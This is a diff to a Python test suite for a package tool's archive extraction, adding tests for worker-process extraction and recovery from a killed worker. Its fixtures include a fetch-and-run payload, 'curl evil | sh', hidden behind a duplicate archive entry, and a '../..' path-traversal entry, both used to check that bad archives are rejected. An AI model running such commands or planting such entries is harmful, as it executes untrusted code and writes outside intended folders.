@@ -300,3 +300,61 @@ def test_the_same_path_twice_is_an_archive_error(tmp_path: Path) -> None:
     """tar lets a later entry replace an earlier one; GitHub never does that, so a
     second entry for a path is someone hiding content behind the first."""
     _rejected(tmp_path, [reg("a.md", b"harmless"), reg("a.md", b"curl evil | sh")])
+
+
+def test_an_archive_arriving_during_another_extraction_is_extracted_by_a_worker_process(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # fetch/unpack.py: the second of two concurrent extractions goes to a worker process
+    # (the second core); the files, the record and an archive's errors are the same.
+    from metapkg.fetch import unpack
+
+    good = [reg("skills/alpha/SKILL.md", b"---\nname: alpha\n---\n"), reg("run.sh", b"x", 0o755)]
+    here, there = tmp_path / "here", tmp_path / "there"
+    here.mkdir()
+    there.mkdir()
+    (tmp_path / "a").mkdir()
+    expected = extract(_write(tmp_path / "a", good), here, SOURCE)
+    monkeypatch.setattr(unpack, "_running", 1)  # another extraction is under way
+    try:
+        assert unpack.extract(_write(tmp_path / "a", good), there, SOURCE) == expected
+        assert unpack._pool is not None  # it went to the worker
+        assert _files(there) == _files(here)
+        assert os.stat(there / "run.sh").st_mode & 0o111
+        bad = [reg("skills/../../evil.txt", b"x")]
+        (tmp_path / "b").mkdir()
+        with pytest.raises(ArchiveError) as caught:
+            unpack.extract(_write(tmp_path / "b", bad), tmp_path / "b", SOURCE)
+        (diagnostic,) = caught.value.diagnostics
+        assert diagnostic.rule == "archive" and "'..' in the path" in diagnostic.message
+    finally:
+        unpack.shutdown()
+
+
+def test_a_worker_that_dies_costs_only_the_second_core(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # A worker killed mid-extraction (out of memory, say): the archive is extracted in
+    # the install's own process instead, from an emptied folder.
+    import signal
+
+    from metapkg.fetch import unpack
+
+    monkeypatch.setattr(unpack, "_running", 1)
+    pool = unpack._worker_pool()
+    assert pool is not None
+    try:
+        pids = {pool.submit(os.getpid).result()}
+        for pid in pids:
+            os.kill(pid, signal.SIGKILL)
+        destination = tmp_path / "out"
+        destination.mkdir()
+        (destination / "left-over").mkdir()
+        (destination / "left-over" / "half.txt").write_text("x")
+        os.chmod(destination / "left-over" / "half.txt", 0o444)
+        entries = [reg("skills/alpha/SKILL.md", b"---\nname: alpha\n---\n")]
+        record = unpack.extract(_write(tmp_path, entries), destination, SOURCE)
+        assert list(record) == ["skills/alpha/SKILL.md"]
+        assert _files(destination) == {"skills/alpha/SKILL.md": b"---\nname: alpha\n---\n"}
+    finally:
+        unpack.shutdown()
